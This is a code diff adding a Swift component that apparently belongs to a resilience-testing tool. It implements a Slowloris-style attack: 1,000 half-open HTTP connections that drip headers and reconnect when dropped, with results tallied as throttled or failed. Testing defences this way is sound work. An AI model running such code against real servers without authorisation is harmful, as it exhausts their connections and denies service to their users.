@@ -1,0 +1,141 @@
+import Glibc
+import Reactor
+
+/// Connections that begin a login and never come to its end: a field every now and then, to look alive. As often as the
+/// target cuts one off, another takes its place.
+final class SlowConnections {
+    /// At once, of all loops together.
+    static let connections = 1_000
+    /// Between two fields of one connection, in seconds.
+    static let dripSeconds = 2.0
+
+    private let scene: Scene
+    private let generator: Generator
+    private var open: [SlowConnection] = []
+    private var isOver = false
+
+    init(_ scene: Scene, _ generator: Generator) {
+        self.scene = scene
+        self.generator = generator
+    }
+
+    /// The generator's closing ends them; so does the end of the attack.
+    func begin(start: MonotonicTime, seconds: Double) {
+        _ = generator.recorder("attack")
+        generator.addClosing { [self] in end() }
+        _ = generator.loop.schedule(at: start) { [self] in
+            let own = SlowConnections.connections / generator.plan.shares
+            for index in 0..<own { connect(index) }
+            drip()
+        }
+        _ = generator.loop.schedule(at: start.adding(nanoseconds: UInt64(seconds * 1e9))) { [self] in end() }
+    }
+
+    private func connect(_ index: Int) {
+        guard !isOver, !generator.isClosing else { return }
+        let endpoint = scene.endpoints[generator.takePool()]
+        let bot = ClientAddresses(.bots, seed: scene.seed)[index]
+        do throws(SystemError) {
+            let connection = try SlowConnection(
+                to: endpoint, preface: generator.preface(scene.carrier, bot, endpoint) ?? [],
+                path: scene.basePath + "/", on: generator.loop
+            ) { [self] connection, code in ended(connection, code, index) }
+            open.append(connection)
+        } catch {
+            note(.refusedConnection, .refused(error.code), .now)
+        }
+    }
+
+    /// `code`: of a connection that was refused; nil of one that the target ended.
+    private func ended(_ connection: SlowConnection, _ code: Int32?, _ index: Int) {
+        open.removeAll { $0 === connection }
+        if let code {
+            note(.refusedConnection, .refused(code), connection.begun)
+        } else {
+            note(.throttled, .ok, connection.begun)
+        }
+        _ = generator.loop.schedule(at: MonotonicTime.now.adding(milliseconds: 100)) { [self] in connect(index) }
+    }
+
+    private func drip() {
+        guard !isOver else { return }
+        for connection in open { connection.drip() }
+        let next = MonotonicTime.now.adding(nanoseconds: UInt64(SlowConnections.dripSeconds * 1e9))
+        _ = generator.loop.schedule(at: next) { [self] in drip() }
+    }
+
+    private func end() {
+        guard !isOver else { return }
+        isOver = true
+        for connection in open {
+            connection.close()
+            // The target bore it to the end.
+            note(.failed, .timedOut, connection.begun)
+        }
+        open = []
+    }
+
+    /// Under the second in which it ended: that is when the target saw through it.
+    private func note(_ outcome: AttackTally.Outcome, _ fate: Fate, _ begun: MonotonicTime) {
+        let now = MonotonicTime.now
+        generator.recorder("attack").record(fate, status: 0, intended: begun, sent: nil, done: now)
+        generator.tally?.attempt(at: generator.second(of: now), outcome, account: nil)
+    }
+}
+
+/// One of them.
+private final class SlowConnection: ReadinessHandler {
+    let begun = MonotonicTime.now
+    private let socket: Int32
+    private let loop: EventLoop
+    private var registration: Registration?
+    private var isConnected = false
+    private let opening: [UInt8]
+    private let ended: (SlowConnection, Int32?) -> Void
+
+    init(
+        to endpoint: Endpoint, preface: [UInt8], path: String, on loop: EventLoop,
+        _ ended: @escaping (SlowConnection, Int32?) -> Void
+    ) throws(SystemError) {
+        self.loop = loop
+        self.ended = ended
+        opening = preface + Array("POST \(path) HTTP/1.1\r\nHost: \(endpoint.host)\r\n".utf8)
+        socket = try Socket.connect(to: endpoint.address).descriptor
+        do throws(SystemError) {
+            registration = try loop.register(socket, [.readable, .writable, .readClosed], self)
+        } catch {
+            Glibc.close(socket)
+            throw error
+        }
+    }
+
+    func drip() { if isConnected { send(Array("X-Slow: 1\r\n".utf8)) } }
+
+    func close() {
+        guard let registration = registration.take() else { return }
+        loop.deregister(registration, isClosing: true)
+        Glibc.close(socket)
+    }
+
+    func ready(_ readiness: Readiness) {
+        if !isConnected {
+            let code = Socket(owning: socket).connectionError()
+            guard code == 0 else { return end(code) }
+            guard readiness.contains(.writable) else { return }
+            isConnected = true
+            send(opening)
+        }
+        if readiness.endsInput || readiness.contains(.readable) { end(nil) }
+    }
+
+    private func send(_ bytes: [UInt8]) {
+        guard registration != nil else { return }
+        if case .failed = bytes.withUnsafeBytes({ Socket(owning: socket).write($0) }) { end(nil) }
+    }
+
+    private func end(_ code: Int32?) {
+        guard registration != nil else { return }
+        close()
+        ended(self, code)
+    }
+}
